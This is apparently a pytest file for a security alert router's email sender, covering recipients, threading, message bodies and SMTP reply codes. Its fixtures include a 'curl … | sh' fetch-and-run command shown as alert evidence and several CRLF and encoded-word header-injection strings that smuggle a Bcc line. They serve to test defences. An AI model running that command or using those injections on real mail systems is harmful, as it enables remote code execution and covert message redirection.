"""Mail: what stands in it, how its mails stand under one another, and what a server's answers mean."""

from copy import replace
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from router.destinations import discover
from router.destinations.config import hosts_in
from router.destinations.email import PATIENCE, mail_of
from router.domain.conversation import MailAnswer, MailReply, MailStep, SendMail
from router.domain.decisions import Change
from router.domain.deliveries import Attempt, Receipt
from router.domain.errors import DeliveryError, Rejected, Unauthorized, Unavailable
from router.domain.evidence import Evidence
from router.domain.keys import delivery_key
from router.domain.notices import Link
from router.domain.readable import legible, one_line
from tests.destinations.builders import NOW, a_destination, a_notice, a_secret, an_attempt, examples_of
from tests.destinations.conversations import ReadMail, converse, mail_answered, read, shown_in
from tests.examples import some_of

PASSWORD = "SMTP_PASSWORD"
TAKEN = mail_answered(MailStep.MESSAGE, 250, "2.0.0 Ok: queued as 4F2A1C0B")
EXAMPLE: dict[str, Any] = examples_of("email")[0]


def mail_for(attempt: Attempt, **config: Any) -> SendMail:
    """The mail that an attempt asks for."""
    (ask,), _ = converse(a_destination("email", **config), [attempt], lambda ask: TAKEN)
    assert isinstance(ask, SendMail)
    return ask


def read_mail(change: Change = Change.OPENED, **notice: Any) -> ReadMail:
    """What the mail about a notice says."""
    return read(mail_for(an_attempt(a_notice(**notice), change, secrets=[PASSWORD])))


def brought(answer: MailAnswer, **config: Any) -> Receipt | DeliveryError:
    """What an answer means."""
    _, (result,) = converse(a_destination("email", **config), [an_attempt(secrets=[PASSWORD])], lambda ask: answer)
    return result


def test_what_is_for_one_person_goes_to_nobody_else() -> None:
    """The owner of a rule is mailed by the server that the rules name, and the mailboxes that they name get another mail."""
    mail = mail_for(an_attempt(a_notice(recipient="ana@contoso.example"), secrets=[PASSWORD]))
    assert (mail.host, mail.recipients, mail.password) == (
        "smtp.soc.example", ("ana@contoso.example",), a_secret(PASSWORD),
    )  # fmt: skip
    assert read(mail).headers["To"] == "ana@contoso.example"
    # Whatever somebody wrote into the state, it makes no header, and no second recipient.
    for recipient in ("", "ana", "a@b.example\r\nBcc: x@y.example", "a@b.example, b@c.example", "ä@b.example"):
        attempt = an_attempt(a_notice(recipient=recipient), secrets=[PASSWORD])
        asks, (result,) = converse(a_destination("email"), [attempt], lambda ask: TAKEN)
        assert (asks, type(result)) == ([], Rejected), recipient


def test_a_mailbox_gets_one_mail_however_often_it_is_named() -> None:
    """Mailboxes are compared without case; so are the places that two streams must not share."""
    twice: dict[str, Any] = {"to": ["SOC@soc.example", "ada@soc.example", "soc@soc.example"]}
    assert mail_for(an_attempt(secrets=[PASSWORD]), **twice).recipients == ("soc@soc.example", "ada@soc.example")
    assert (
        a_destination("email", **twice).address
        == a_destination("email", to=["Ada@soc.example", "soc@soc.example"]).address
    )


def test_cleartext_goes_to_loopback_alone() -> None:
    """As http does; there it needs no user."""
    for host in ("127.0.0.1", "::1", "localhost", "127.9.9.9"):
        mail = mail_for(an_attempt(secrets=[]), host=host, tls="none", auth=None)
        assert (mail.is_cleartext, mail.user, mail.password) == (True, None, None)


def test_a_server_that_is_yet_to_be_named_is_not_ready() -> None:
    """Its host counts as an address does: one in `.example` is waited for."""
    config = discover()["email"].Config
    assert hosts_in(config.model_validate(EXAMPLE)) == {"smtp.soc.example"}
    assert hosts_in(config.model_validate(EXAMPLE | {"host": "SMTP.azurecomm.net."})) == {"smtp.azurecomm.net"}


def test_updates_and_resolutions_stand_under_the_mail_that_opened_it() -> None:
    """Also where the receipt of that is not known: its id is made of the key, the turn and the destination."""
    opened = read_mail().headers
    first = opened["Message-ID"]
    assert first == f"<{delivery_key(a_notice().key, 1, 'there')}@soc.example>"
    assert "References" not in opened and "In-Reply-To" not in opened
    for change, mark in ((Change.UPDATED, "[Updated] "), (Change.RESOLVED, "[Resolved] ")):
        later = read_mail(change, turn=3).headers
        assert later["References"] == later["In-Reply-To"] == first != later["Message-ID"]
        # What stands in brackets before a subject is no part of what it is about, so it is the thread's own.
        assert later["Subject"] == mark + opened["Subject"]


def test_a_mail_is_the_same_over_all_attempts() -> None:
    """By its `Message-ID`, which is all that a mailbox can tell it by; the date is that of the attempt."""
    first, second = (
        read(mail_for(replace(an_attempt(secrets=[PASSWORD]), number=number, now=NOW + timedelta(hours=number))))
        for number in (1, 2)
    )
    assert first.headers["Message-ID"] == second.headers["Message-ID"]
    assert first.headers["Date"] != second.headers["Date"]


def test_a_thread_outlives_a_change_of_the_sender() -> None:
    """The receipt of the opening says under which id it was sent; what is no id in it is not put into a header."""
    for handle, expected in (("1@old.example", "<1@old.example>"), ("1@x>\r\nBcc: <eve@x", None)):
        opening = Receipt(handles={"message_id": handle})
        attempt = an_attempt(a_notice(turn=2), Change.UPDATED, secrets=[PASSWORD], opening=opening)
        headers = read(mail_for(attempt)).headers
        assert headers["References"] == (expected or read_mail().headers["Message-ID"])


def test_what_is_over_is_not_important() -> None:
    """Nor what is not grave."""
    for severity, change, importance in (
        ("Critical", Change.OPENED, "high"), ("High", Change.UPDATED, "high"), (None, Change.OPENED, "high"),
        ("Medium", Change.OPENED, None), ("High", Change.RESOLVED, None),
    ):  # fmt: skip
        assert read_mail(change, severity=severity).headers.get("Importance") == importance


def test_both_forms_say_all_of_it() -> None:
    """A text and a page, of which a reader is shown one: the headline first, then what happened."""
    told: dict[str, Any] = {
        "description": "It's <b>bold</b> & sign=ed",
        "evidence": Evidence(processes=("curl -s http://203.0.113.7/a | sh",)),
        "runbooks": ("https://contoso.wiki.example/a?b=1&c=2",),
        "links": (Link(text="Report", url="https://contoso.wiki.example/r"),),
    }
    mail = read_mail(**told)
    shown = shown_in(mail.page)
    for form in (mail.text, shown):
        words = [
            "High: Suspicious sign-in to a virtual machine - vm-pay-01", "It's <b>bold</b> & sign=ed", "vm-pay-01",
            "payments-platform / Payments", "curl -s http://203.0.113.7/a | sh", "Change the password.", "Runbook",
            "Report", f"{a_notice().key}, turn 1", "Sent by the alert router to there (cwpp)",
        ]  # fmt: skip
        assert [word for word in words if word not in form] == []
        assert form.strip().startswith(words[0])
    assert 'href="https://contoso.wiki.example/a?b=1&amp;c=2"' in mail.page
    assert "<b>" not in mail.page


def test_what_ended_untold_is_told_whole_in_a_thread_of_its_own() -> None:
    """Nobody has read of it yet."""
    attempt = replace(an_attempt(change=Change.RESOLVED, secrets=[PASSWORD]), is_untold=True, since=NOW)
    mail = read(mail_for(attempt))
    for form in (mail.text, mail.page):
        assert "Over 2026-11-24 12:00 UTC, before this could be told." in form
        assert "Somebody signed in" in form and "Change the password" in form
    assert mail.headers["Subject"].startswith("[Resolved] High: ")
    assert "References" not in mail.headers


@given(st.text(max_size=250).map(one_line).map(str.strip), st.text(max_size=300).map(legible))
@settings(max_examples=some_of(200), deadline=None)
def test_a_subject_and_a_text_arrive_as_they_were_written(subject: str, text: str) -> None:
    """Whatever is in them, in lines that every server takes, and nothing of it becomes a header or a part."""
    to = ", ".join(f"team-{number}@soc.example" for number in range(50))
    raw = mail_of({"From": "a@b.example", "To": to, "Subject": subject}, text, text, "0a")
    mail = read(SendMail(host="x", port=1, sender="a@b.example", recipients=(), message=raw))
    assert (mail.headers["To"], mail.headers["Subject"]) == (to, subject)
    assert list(mail.headers) == ["From", "To", "Subject", "MIME-Version", "Content-Type"]
    assert mail.text.rstrip("\n") == mail.page.rstrip("\n") == text.rstrip("\n")
    assert raw.isascii() and max(len(line) for line in raw.split(b"\r\n")) <= 78
    assert b"\n" not in raw.replace(b"\r\n", b"") and b"\r" not in raw.replace(b"\r\n", b"")


def test_a_title_makes_no_header() -> None:
    """Neither by a line's end nor by a word that stands for one; what is no ASCII on one line stands in no other header."""
    bcc = "Bcc: eve@evil.example.com"
    for title in (f"=?utf-8?q?x=0D=0A{bcc}?=", f"x\r\n{bcc}", "x\r\n\r\n--=_0a", "=?utf-8?b?PGI+?= \ud800"):
        mail = read_mail(title=title)
        assert mail.headers.keys() == read_mail().headers.keys()
        assert one_line(" ".join(title.split()))[:10] in mail.headers["Subject"]
    for value in (f"a@b.example\r\n{bcc}", "ä@b.example"):
        with pytest.raises(ValueError, match="To: is no ASCII on one line"):
            mail_of({"To": value}, "", "", "0a")


def test_a_receipt_says_what_the_server_calls_the_mail() -> None:
    """Servers say it in their own ways, or not at all; and it names whom the server refused, with its codes alone."""
    for said, reference in (
        ("2.0.0 Ok: queued as 4XyZ1", "4XyZ1"),
        ("2.6.0 <1@x> [InternalId=1, Hostname=a] Queued mail for delivery", None),
        ("2.0.0 Ok: queued as <script>", None),
        ("OK", None),
    ):
        receipt = brought(mail_answered(MailStep.MESSAGE, 250, said))
        assert isinstance(receipt, Receipt) and receipt.reference == reference
        assert receipt.handles == {"message_id": f"{delivery_key(a_notice().key, 1, 'there')}@soc.example"}
    ada, b = MailReply(code=550, text="5.1.1 <ada@soc.example> unknown"), MailReply(code=450, text="no")
    receipt = brought(replace(TAKEN, refused={"ada@soc.example": ada, "b@x.example": b}))
    assert isinstance(receipt, Receipt)
    assert receipt.handles["refused"] == "ada@soc.example: 550 5.1.1, b@x.example: 450"


def test_a_mail_waits_for_a_recipient_for_ten_minutes() -> None:
    """From when it is owed."""
    for waited, is_for_all in ((-1, True), (0, False), (1, False)):
        attempt = replace(an_attempt(secrets=[PASSWORD]), since=NOW - PATIENCE - timedelta(seconds=waited))
        assert mail_for(attempt).is_for_all is is_for_all


def test_a_server_that_is_asked_too_much_is_asked_less() -> None:
    """421 and its like count as 429 does."""
    for code, is_crowded in ((421, True), (432, True), (450, True), (452, True), (451, False)):
        result = brought(mail_answered(MailStep.MESSAGE, code))
        assert isinstance(result, Unavailable) and result.is_crowded is is_crowded


def test_a_mail_that_is_refused_shows_that_we_were_let_in() -> None:
    """So it resumes a paused destination; not where nobody asked who we are."""
    refusal = mail_answered(MailStep.MESSAGE, 554, "5.6.0 no")
    for auth, is_known in ((EXAMPLE["auth"], True), (None, False)):
        result = brought(refusal, auth=auth)
        assert isinstance(result, Rejected)
        assert (result.authenticated, result.status) == (is_known, 554)


def test_the_user_may_be_a_secret_too() -> None:
    """As in any `auth`; one that has no value pauses the destination."""
    auth = {"user": {"secret": "SMTP_USER"}, "password": {"secret": PASSWORD}}
    assert mail_for(an_attempt(secrets=[PASSWORD, "SMTP_USER"]), auth=auth).user == a_secret("SMTP_USER")
    _, (result,) = converse(a_destination("email", auth=auth), [an_attempt(secrets=[PASSWORD])], lambda ask: TAKEN)
    assert isinstance(result, Unauthorized) and "SMTP_USER" in str(result)
